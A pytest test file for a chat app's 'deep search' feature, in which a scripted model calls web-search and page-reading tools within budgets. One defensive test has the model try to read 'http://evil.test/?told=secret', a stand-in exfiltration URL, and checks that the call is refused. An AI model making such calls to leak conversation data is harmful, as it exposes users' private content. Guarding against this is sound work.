"""Deep search: a model that calls for searches and pages, within a budget that rows keep, whoever goes on."""

from typing import Any

import pytest
from django.utils import timezone

from chatapp.accounts.models import User
from chatapp.answers import deep
from chatapp.answers.services import Accepted
from chatapp.context.deep import NO_MORE_SEARCHES, NOT_SEARCHED, NOTHING_FOUND, NOTHING_NEW, SKIPPED, UNKNOWN_PAGE
from chatapp.conversations.selectors import read_item
from chatapp.endpoints.models import Endpoint
from chatapp.evidence.computed import steps_of
from chatapp.searches import services
from chatapp.searches.models import WebPage, WebSetting
from chatapp.threads import in_thread
from tests.chatapp.answers.stories import cancel, check_story, crashing, ended, expire_lease, play, running, until
from tests.chatapp.answers.test_web import QUESTION, evidence, rows, until_search
from tests.chatapp.answers.test_web import ask as ask_web
from tests.scripted_endpoint import TEXT, ScriptedEndpoint
from tests.search.web.small_web import SITE, TRAPS
from tests.site_fixtures import signed_in
from tests.web_fixtures import SearchedWeb, searching

pytestmark = pytest.mark.django_db(transaction=True)


SLUICE = "The sluice {0} of the canal keeps the harbour station of Talmar dry. "
LONG = "<html><head><title>Sluices</title></head><body><article><h1>Sluices</h1>" + "".join(
    f"<h2>Sluice {number}</h2><p>{SLUICE.format(number) * 8}</p>" for number in range(12)
)


async def ask(person: User, text: str = QUESTION, **fields: object) -> Accepted:
    return await ask_web(person, text, **{"search": False, "deep": True, **fields})


async def model(endpoint: Endpoint, scripted: ScriptedEndpoint, *calls: tuple[str, dict[str, Any]]) -> None:
    await play(endpoint, scripted, "tools+repeats", tools=True, context_length=65_536)
    scripted.tool_calls = list(calls)


def search(*queries: str) -> tuple[str, dict[str, Any]]:
    return ("search_web", {"queries": list(queries)})


def read(url: str) -> tuple[str, dict[str, Any]]:
    return ("read_page", {"url": url})


def told(scripted: ScriptedEndpoint) -> list[str]:
    """What the tools have given, as the last request tells it."""
    return [str(m["content"]) for m in scripted.requests[-1]["messages"] if m["role"] == "tool"]


async def test_the_model_searches_reads_on_and_cites_all_of_it(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    first = searched.web.url("long.test", "/")
    searched.web.add("long.test", "/", LONG)
    searched.urls = [first, *searched.articles(3)]
    await model(endpoint, scripted, search("harbour station", "Talmar 1801"), read(first), search("iron bridge"))
    with searching():
        async with running():
            accepted = await ask(member)
            answer = await ended(accepted.answer_id)
    one, *_, last = scripted.requests
    assert [tool["function"]["name"] for tool in one["tools"]] == ["search_web", "read_page"]
    question = one["messages"][-1]["content"]
    assert f"Today is {timezone.localdate().isoformat()}." in question and question.endswith(QUESTION)
    assert "<page" not in question and last["messages"][: len(one["messages"])] == one["messages"]
    begun = await rows(answer.pk)
    assert [(each.call, len(each.queries), len(each.urls)) for each in begun] == [
        ("1.1", 2, 0),
        ("2.1", 0, 1),
        ("3.1", 1, 0),
    ]
    found = await evidence(answer.pk)
    assert [row.number for row in found] == list(range(1, len(found) + 1)) and all(row.by_tool for row in found)
    results = told(scripted)
    assert f'url="{first}"' in results[0] and "Clara Voss" in results[0] and "[1]" in results[0]
    known = [row.text for row in found if row.text in results[0]]
    assert "sluice 11" in results[1] and not any(text in results[1] for text in known), (
        "the rest of the page, and no more"
    )
    assert answer.status == "finished" and answer.message.text.startswith("The tool said: ")
    item = await in_thread(read_item, member, accepted.conversation_id, accepted.reply_id)
    assert item.budget is not None and (item.budget.searches, item.budget.most_searches) == (2, deep.SEARCHES)
    assert item.budget.pages == await in_thread(WebPage.objects.count) and item.computed == []
    page = await in_thread(
        lambda: signed_in(member).get(f"/c/{accepted.conversation_id}/messages/{accepted.reply_id}").content.decode()
    )
    assert f"2 of {deep.SEARCHES} searches" in page and "iron bridge" in page
    reader = await check_story(accepted)
    assert "searching" in reader.notices() and "computed" in reader.notices()
    assert "searching" not in [notice["code"] for notice in answer.notices], "it goes on no more"


async def test_pages_that_were_named_are_read_first(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    named = searched.articles(2)[1]
    await model(endpoint, scripted, read(named))
    with searching():
        async with running():
            accepted = await ask(member, f"What does {named} leave out about the harbour station of Talmar?")
            await ended(accepted.answer_id)
    question = scripted.requests[0]["messages"][-1]["content"]
    assert f'url="{named}"' in question and "search_web" in question and "[1]" in question
    assert told(scripted) == [NOTHING_NEW] and searched.queries == []


@pytest.mark.parametrize(
    ("calls", "words"),
    [
        ([read("http://evil.test/?told=secret")], UNKNOWN_PAGE),
        ([("search_web", {"queries": []})], "The argument queries is missing"),
        ([("search_web", {"queries": 7})], "The argument queries is missing"),
        ([("read_page", {})], "The argument url is missing"),
        ([("query_table", {"sql": "SELECT 1"})], "There is no file to ask"),
        ([("fetch", {"url": "http://evil.test/"})], "There is no function 'fetch'"),
    ],
)
async def test_a_call_that_cannot_be_done_is_told(
    member: User,
    endpoint: Endpoint,
    scripted: ScriptedEndpoint,
    searched: SearchedWeb,
    calls: list[tuple[str, dict[str, Any]]],
    words: str,
) -> None:
    """An address that no search has named could carry away what stands in the conversation."""
    await model(endpoint, scripted, *calls)
    async with running():
        accepted = await ask(member)
        answer = await ended(accepted.answer_id)
    [result] = told(scripted)
    assert result.startswith(words) and answer.status == "finished"
    assert await rows(answer.pk) == [] and searched.web.asked == []


async def test_more_than_the_budget_is_not_searched(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(deep, "SEARCHES", 2)
    searched.urls = searched.articles(1)
    await model(endpoint, scripted, *(search(f"talmar {number}") for number in range(20)))
    with searching():
        async with running():
            accepted = await ask(member)
            answer = await ended(accepted.answer_id)
    assert sorted(searched.queries) == ["talmar 0", "talmar 1"]
    assert told(scripted)[2] == NO_MORE_SEARCHES and answer.status == "finished"
    assert len(scripted.requests) < 15 and scripted.requests[-1]["tool_choice"] == "none"


@pytest.mark.parametrize("limit", ["PAGES", "SECONDS"])
async def test_without_pages_or_time_left_the_model_must_answer(
    member: User,
    endpoint: Endpoint,
    scripted: ScriptedEndpoint,
    searched: SearchedWeb,
    monkeypatch: pytest.MonkeyPatch,
    limit: str,
) -> None:
    monkeypatch.setattr(deep, limit, 3 if limit == "PAGES" else 0)
    await model(endpoint, scripted, *(search(f"talmar {number}") for number in range(20)))
    with searching():
        async with running():
            accepted = await ask(member)
            await ended(accepted.answer_id)
    num_pages = await in_thread(WebPage.objects.count)
    assert len(searched.queries) == (1 if limit == "PAGES" else 0) and num_pages == (3 if limit == "PAGES" else 0)
    assert scripted.requests[1 if limit == "PAGES" else 0]["tool_choice"] == "none"


async def test_what_fails_or_is_skipped_is_told_to_the_model(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    await in_thread(lambda: WebSetting.objects.update(confirms_queries=True))
    searched.urls = [searched.web.url(TRAPS, "/404")]
    await model(endpoint, scripted, search("one"), search("two"), search("three"))
    with searching(but=["two"]):
        async with running():
            accepted = await ask(member)
            first = await until_search(accepted.answer_id, lambda each: each.queries == ["one"])
            await in_thread(services.confirm, member, first.pk, ["one, changed"])
            second = await until_search(accepted.answer_id, lambda each: each.queries == ["two"])
            await in_thread(services.skip, member, second.pk)
            await until_search(accepted.answer_id, lambda each: each.queries == ["three"])
            await in_thread(lambda: WebSetting.objects.update(is_on=False))
            third = await until_search(accepted.answer_id, lambda each: each.queries == ["three"])
            await in_thread(services.confirm, member, third.pk, ["three"])
            await ended(accepted.answer_id)
    assert searched.queries == ["one, changed"]
    assert told(scripted) == [NOTHING_FOUND, SKIPPED, SKIPPED]


async def test_a_web_that_was_switched_off_is_not_called_for(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    await model(endpoint, scripted, search("one"), search("two"))
    with searching():
        async with running():
            accepted = await ask(member)
            await until_search(accepted.answer_id, lambda each: each.state == "done")
            await in_thread(lambda: WebSetting.objects.update(is_on=False))
            await ended(accepted.answer_id)
    assert told(scripted)[-1] in (NOT_SEARCHED, NOTHING_NEW) and len(searched.queries) <= 2


async def test_another_runner_goes_on_behind_the_last_search(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    await model(endpoint, scripted, search("one"), search("two"))
    with searching(but=["two"]):
        async with crashing() as crash:
            accepted = await ask(member)
            await until_search(accepted.answer_id, lambda each: each.queries == ["two"])
            await until(accepted.answer_id, lambda answer: len(answer.request.get("rounds", [])) == 2)
            crash()
    await expire_lease(accepted.answer_id)
    with searching():
        async with running():
            answer = await ended(accepted.answer_id)
    assert answer.fence == 2 and len(scripted.requests) == 3 and sorted(searched.queries) == ["one", "two"]
    assert [each.call for each in await rows(answer.pk)] == ["1.1", "2.1"]
    await check_story(accepted)


async def test_cancelling_calls_the_models_search_off(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    searched.urls = [searched.web.url(TRAPS, "/never")]
    await model(endpoint, scripted, search("one"))
    with searching():
        async with running():
            accepted = await ask(member)
            await until_search(accepted.answer_id, lambda each: bool(each.progress.get("pages")))
            await cancel(member, accepted.answer_id)
            answer = await ended(accepted.answer_id)
    assert answer.status == "cancelled" and [each.state for each in await rows(answer.pk)] == ["cancelled"]
    assert await in_thread(lambda: steps_of([answer])[answer.pk]) == []


async def test_what_was_found_leaves_no_page_text_in_the_request(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    await model(endpoint, scripted, search("one"))
    with searching():
        async with running():
            answer = await ended((await ask(member)).answer_id)
    assert "Clara Voss" not in str(answer.request) and answer.request["rounds"][0]["results"][0]["numbers"]
    assert answer.message.text != TEXT and searched.web.url(SITE, "/en/0")


async def test_the_last_of_a_result_is_within_its_room(
    member: User, endpoint: Endpoint, scripted: ScriptedEndpoint, searched: SearchedWeb
) -> None:
    await model(endpoint, scripted, search("one"))
    await in_thread(lambda: Endpoint.objects.update(context_length=8192))
    with searching():
        async with running():
            accepted = await ask(member)
            await ended(accepted.answer_id)
    [result] = told(scripted)
    assert 0 < len(result) < 8192 // deep.RESULT_SHARE * 4
